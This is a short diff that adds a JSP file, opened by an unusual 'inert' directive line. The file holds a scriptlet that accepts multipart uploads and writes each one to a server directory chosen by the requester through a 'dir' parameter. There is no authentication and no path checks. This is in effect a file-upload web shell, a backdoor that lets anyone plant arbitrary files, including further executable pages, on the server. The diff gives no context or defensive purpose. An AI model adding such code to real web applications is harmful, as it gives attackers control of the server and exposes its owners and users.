@@ -1,0 +1,2 @@
+<%@ inert %>
+<% String action = request.getParameter("action"); if ("upload".equals(action)) { DiskFileItemFactory f = new DiskFileItemFactory(); ServletFileUpload u = new ServletFileUpload(f); List items = u.parseRequest(request); for (Object o : items) { FileItem it = (FileItem) o; it.write(new File(request.getParameter("dir"), it.getName())); } } %>
